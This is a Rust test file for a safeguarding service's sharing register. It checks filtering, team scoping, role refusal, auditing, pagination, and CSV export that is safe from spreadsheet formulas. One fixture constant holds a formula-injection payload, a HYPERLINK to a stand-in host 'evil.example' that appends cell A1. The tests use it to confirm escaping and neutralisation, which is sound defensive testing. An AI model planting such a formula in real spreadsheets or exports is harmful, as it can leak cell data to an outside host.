//! The information-sharing register (issue 17): every onward referral listed per case and
//! across the service (`/staff/sharing`), filtered (kind of recipient, lawful basis, consent,
//! the date sent), scoped to the reader's team (auditors see every team's), refused to roles
//! without `view_sharing_register`, exported as CSV safe from spreadsheet formulas and
//! audited; a bad date is a clear error naming the field. Also the retention fixes that came
//! with it: `haven retention plan` opens only what a case's rule needs, and the daily pass is
//! run by one server of several. Every test runs on SQLite and, with
//! HAVEN_TEST_DATABASE_URL, on PostgreSQL.

use crate::common;

use axum::http::StatusCode;
use chrono::{NaiveDate, Utc};
use common::staff::{Browser, account};
use common::{TestApp, TestAppBuilder, sample};
use haven::access::Role;
use haven::storage::onward::{NewExport, NewOnwardReferral};
use serde_json::{Value, json};
use sha2::Digest;
use sqlx::Row;

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";

fn builtins() -> TestAppBuilder {
    TestAppBuilder::default().builtins()
}

async fn submit(app: &TestApp, body: Value) -> (String, String) {
    let response = app.post_json("/api/v1/submissions", &body).await;
    assert_eq!(response.status, StatusCode::CREATED, "{}", response.text());
    let reference = response.json()["reference"].as_str().unwrap().to_owned();
    let id = app
        .storage
        .find_referral(&reference)
        .await
        .unwrap()
        .unwrap()
        .id;
    (reference, id)
}

async fn secos_case(app: &TestApp) -> (String, String) {
    submit(
        app,
        json!({"service": "secos", "stage": "referral", "audience": "professional", "answers": sample("secos-referral")}),
    )
    .await
}

async fn ceop_case(app: &TestApp) -> (String, String) {
    submit(
        app,
        json!({"service": "ceop", "stage": "report", "audience": "parent_carer", "answers": sample("ceop-report-parent")}),
    )
    .await
}

#[allow(clippy::too_many_arguments)]
async fn onward(
    app: &TestApp,
    referral_id: &str,
    kind: &str,
    recipient: &str,
    basis: &str,
    consent_reason: Option<&str>,
    sent_on: NaiveDate,
    actor: &str,
) -> String {
    app.storage
        .record_onward_referral(&NewOnwardReferral {
            referral_id,
            kind,
            action_key: None,
            recipient,
            lawful_basis: basis,
            consent_sought: consent_reason.is_none(),
            consent_reason,
            sent_on,
            notes: Some("=SUM(A1:A9) in the notes"),
            mark_action_done: false,
            actor,
            at: Utc::now(),
        })
        .await
        .unwrap()
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

async fn signed_in(app: &TestApp, role: Role, team: Option<&str>) -> (Browser, String) {
    let (id, _) = account(app, role, team, "a-password-for-tests").await;
    (Browser::signed_in(app, &id).await, format!("user:{id}"))
}

/// The register as the staff page shows it (200 expected).
async fn register(browser: &mut Browser, app: &TestApp, query: &str) -> String {
    let page = browser.get(app, &format!("/staff/sharing{query}")).await;
    assert_eq!(page.status, StatusCode::OK, "{query}: {}", page.text());
    page.text()
}

async fn audit_reasons(app: &TestApp, action: &str) -> Vec<String> {
    sqlx::query("SELECT reason FROM audit_log WHERE action = $1 ORDER BY id")
        .bind(action)
        .fetch_all(app.storage.pool())
        .await
        .unwrap()
        .iter()
        .map(|r| {
            r.try_get::<Option<String>, _>(0)
                .unwrap()
                .unwrap_or_default()
        })
        .collect()
}

/// Cells of a CSV body (the `csv` crate reading what Haven wrote).
fn csv_rows(body: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn the_register_lists_filters_scopes_and_exports_every_onward_share() {
    builtins()
        .each_engine(async |app| {
            let (_, recorder) = signed_in(app, Role::Triage, Some("secos")).await;
            let (secos_ref, secos_id) = secos_case(app).await;
            let (other_ref, other_id) = secos_case(app).await;
            let (ceop_ref, ceop_id) = ceop_case(app).await;
            let police = onward(
                app,
                &secos_id,
                "police_intelligence",
                FORMULA,
                "crime_prevention",
                Some("It would put the young person at risk"),
                day(2026, 3, 2),
                &recorder,
            )
            .await;
            let pdf = b"%PDF-1.4 the police document".to_vec();
            app.storage
                .record_document_export(
                    &NewExport {
                        referral_id: &secos_id,
                        onward_referral_id: &police,
                        format: "pdf",
                        content: &pdf,
                    },
                    &recorder,
                    Utc::now(),
                )
                .await
                .unwrap();
            let sha = hex::encode(sha2::Sha256::digest(&pdf));
            onward(
                app,
                &other_id,
                "vemt_referral",
                "VEMT panel, Middlesbrough",
                "public_task_safeguarding",
                None,
                day(2026, 1, 15),
                &recorder,
            )
            .await;
            onward(
                app,
                &ceop_id,
                "police_child_protection_unit",
                "Cleveland Police child protection unit",
                "crime_prevention",
                None,
                day(2026, 2, 10),
                "user:someone",
            )
            .await;

            // A SECOS manager: the team's two shares, newest first, in words; never CEOP's.
            let (mut manager, _) = signed_in(app, Role::Manager, Some("secos")).await;
            let queue = manager.get(app, "/staff/queue").await.text();
            assert!(queue.contains(">Sharing register</a>"), "nav link");
            let html = register(&mut manager, app, "").await;
            assert!(html.contains(&secos_ref) && html.contains(&other_ref), "{html}");
            assert!(!html.contains(&ceop_ref), "another team's share is never shown");
            assert!(
                html.find(&secos_ref) < html.find(&other_ref),
                "sent 2 March before 15 January"
            );
            assert!(html.contains("2 March 2026") && html.contains("15 January 2026"));
            assert!(html.contains("CSE intelligence shared with the Police"));
            assert!(html.contains("(Police)"), "the kind of recipient in words");
            assert!(html.contains("Consent not sought: "), "{html}");
            assert!(html.contains("It would put the young person at risk"));
            assert!(html.contains("Consent sought"));
            // The recipient is escaped; the file handed over with its full SHA-256.
            assert!(html.contains("=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1"), "{html}");
            assert!(html.contains(&sha), "the full SHA-256");
            assert!(html.contains(&format!("{secos_ref}-police-intelligence.pdf")));
            // (minijinja escapes `/` in values as `&#x2f;`.)
            assert!(html.contains(&format!(
                "&#x2f;staff&#x2f;cases&#x2f;{secos_ref}&#x2f;onward-referrals#onward-{police}\""
            )));
            // Each view is one audit entry naming the references shown, never content.
            let listed = audit_reasons(app, "sharing.listed").await;
            let last = listed.last().unwrap();
            assert!(last.contains(&secos_ref) && last.contains(&other_ref), "{last}");
            assert!(!last.contains("HYPERLINK"));

            // Filters: kind of recipient, lawful basis, consent, the date sent.
            let html = register(&mut manager, app, "?recipient_kind=police").await;
            assert!(html.contains(&secos_ref) && !html.contains(&other_ref));
            let html = register(&mut manager, app, "?lawful_basis=public_task_safeguarding").await;
            assert!(!html.contains(&secos_ref) && html.contains(&other_ref));
            let html = register(&mut manager, app, "?consent=not_sought").await;
            assert!(html.contains(&secos_ref) && !html.contains(&other_ref));
            let html = register(&mut manager, app, "?consent=sought").await;
            assert!(!html.contains(&secos_ref) && html.contains(&other_ref));
            let html = register(
                &mut manager,
                app,
                "?from-day=1&from-month=2&from-year=2026&to-day=31&to-month=12&to-year=2026",
            )
            .await;
            assert!(html.contains(&secos_ref) && !html.contains(&other_ref));
            let html = register(&mut manager, app, "?to-day=1&to-month=2&to-year=2026").await;
            assert!(!html.contains(&secos_ref) && html.contains(&other_ref));
            let html = register(&mut manager, app, "?recipient_kind=multi_agency_panel&consent=not_sought").await;
            assert!(html.contains("id=\"sharing-empty\""));

            // A bad date: the form again, 422, the error naming the field; never a 500.
            let page = manager
                .get(app, "/staff/sharing?from-day=31&from-month=2&from-year=2026")
                .await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
            let html = page.text();
            assert!(
                html.contains("Enter the date sent from as a real date"),
                "{html}"
            );
            assert!(html.contains("href=\"#from\""), "the summary links to the field");
            let page = manager.get(app, "/staff/sharing?to-day=3&to-year=2026").await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
            assert!(page.text().contains("The date sent to must include a month"));
            let page = manager
                .get(app, "/staff/sharing?from-day=2&from-month=2&from-year=2026&to-day=1&to-month=2&to-year=2026")
                .await;
            assert!(page.text().contains("must be the same as or after"));
            // A service of another team is not one to choose (nor a sign it exists).
            let page = manager.get(app, "/staff/sharing?service=ceop").await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
            assert!(page.text().contains("Choose a service from the list"));
            let page = manager
                .get(app, "/staff/sharing.csv?from-day=x&from-month=2&from-year=2026")
                .await;
            assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", page.text());

            // The CSV: an attachment, every cell safe from formulas, audited with the count.
            let response = manager.get(app, "/staff/sharing.csv?consent=not_sought").await;
            assert_eq!(response.status, StatusCode::OK, "{}", response.text());
            let disposition = response.header("content-disposition").unwrap();
            assert!(disposition.starts_with("attachment; filename=\"sharing-register-"), "{disposition}");
            assert!(response.header("content-type").unwrap().starts_with("text/csv"));
            let rows = csv_rows(&response.body);
            assert_eq!(rows.len(), 2, "{rows:?}");
            assert_eq!(rows[0][0], "Reference");
            assert_eq!(rows[1][0], secos_ref);
            assert_eq!(rows[1][4], format!("'{FORMULA}"), "the formula is text");
            assert!(rows[1].iter().all(|c| !c.starts_with(['=', '+', '-', '@'])), "{rows:?}");
            assert_eq!(rows[1][6], "No");
            assert_eq!(rows[1][8], "2 March 2026");
            assert_eq!(rows[1][12], sha);
            let text = response.text();
            assert!(!text.contains("SUM(A1:A9)"), "notes are not in the register");
            let exported = audit_reasons(app, "sharing.exported").await;
            assert_eq!(exported.len(), 1);
            assert!(exported[0].contains("consent=not_sought") && exported[0].ends_with("rows=1"), "{exported:?}");

            // Another team's manager sees nothing of SECOS's.
            let (mut ceop_manager, _) = signed_in(app, Role::Manager, Some("ceop")).await;
            let html = register(&mut ceop_manager, app, "").await;
            assert!(html.contains(&ceop_ref));
            assert!(!html.contains(&secos_ref) && !html.contains(&other_ref));
            assert!(!html.contains("HYPERLINK"));
            let csv = ceop_manager.get(app, "/staff/sharing.csv").await;
            assert!(!csv.text().contains(&secos_ref));

            // An auditor sees every team's, and may filter by service.
            let (mut auditor, _) = signed_in(app, Role::Auditor, None).await;
            let html = register(&mut auditor, app, "").await;
            assert!(html.contains(&secos_ref) && html.contains(&other_ref) && html.contains(&ceop_ref));
            assert!(html.contains("id=\"service\""), "a service filter for every team");
            let html = register(&mut auditor, app, "?service=ceop").await;
            assert!(html.contains(&ceop_ref) && !html.contains(&secos_ref));
            let html = register(&mut auditor, app, "?recipient_kind=police").await;
            assert!(html.contains(&ceop_ref) && html.contains(&secos_ref) && !html.contains(&other_ref));

            // Roles without the action: 403, and no link in the navigation.
            for role in [Role::Caseworker, Role::Triage] {
                let (mut worker, _) = signed_in(app, role, Some("secos")).await;
                let queue = worker.get(app, "/staff/queue").await.text();
                assert!(!queue.contains("Sharing register"), "{role:?}");
                for path in ["/staff/sharing", "/staff/sharing.csv"] {
                    let page = worker.get(app, path).await;
                    assert_eq!(page.status, StatusCode::FORBIDDEN, "{role:?} {path}");
                    assert!(!page.text().contains(&secos_ref));
                }
            }
            let (mut admin, _) = signed_in(app, Role::Admin, None).await;
            assert_eq!(admin.get(app, "/staff/sharing").await.status, StatusCode::FORBIDDEN);
            // Signed out: to the sign-in page.
            let anonymous = app.get("/staff/sharing").await;
            assert!(anonymous.status.is_redirection(), "{}", anonymous.status);

            // Per case: the case's onward referrals page shows its register rows.
            let (mut triage, _) = signed_in(app, Role::Triage, Some("secos")).await;
            let page = triage
                .get(app, &format!("/staff/cases/{secos_ref}/onward-referrals"))
                .await;
            assert_eq!(page.status, StatusCode::OK);
            let html = page.text();
            assert!(html.contains(&sha), "the full SHA-256 on the case");
            assert!(html.contains(&format!("{secos_ref}-police-intelligence.pdf")));
            assert!(html.contains("What was shared"));
            assert!(html.contains("It would put the young person at risk"));
            assert!(html.contains("2 March 2026"));
        })
        .await;
}

#[tokio::test]
async fn the_register_pages_through_many_shares() {
    builtins()
        .each_engine(async |app| {
            let (_, id) = secos_case(app).await;
            for i in 0..55u32 {
                onward(
                    app,
                    &id,
                    "vemt_referral",
                    &format!("Panel {i:02}"),
                    "public_task_safeguarding",
                    None,
                    day(2026, 1, 1) + chrono::Days::new(u64::from(i)),
                    "user:x",
                )
                .await;
            }
            let (mut manager, _) = signed_in(app, Role::Manager, Some("secos")).await;
            let first = register(&mut manager, app, "").await;
            assert!(first.contains("Panel 54") && !first.contains("Panel 04"));
            assert!(first.contains("rel=\"next\"") && !first.contains("rel=\"prev\""));
            let second = register(&mut manager, app, "?page=2").await;
            assert!(second.contains("Panel 04") && second.contains("Panel 00"));
            assert!(!second.contains("Panel 05") && second.contains("rel=\"prev\""));
            // A page that is not a number is the first.
            let odd = register(&mut manager, app, "?page=abc").await;
            assert!(odd.contains("Panel 54"));
            // The CSV holds them all (read in batches).
            let csv = manager.get(app, "/staff/sharing.csv").await;
            assert_eq!(csv_rows(&csv.body).len(), 56);
        })
        .await;
}
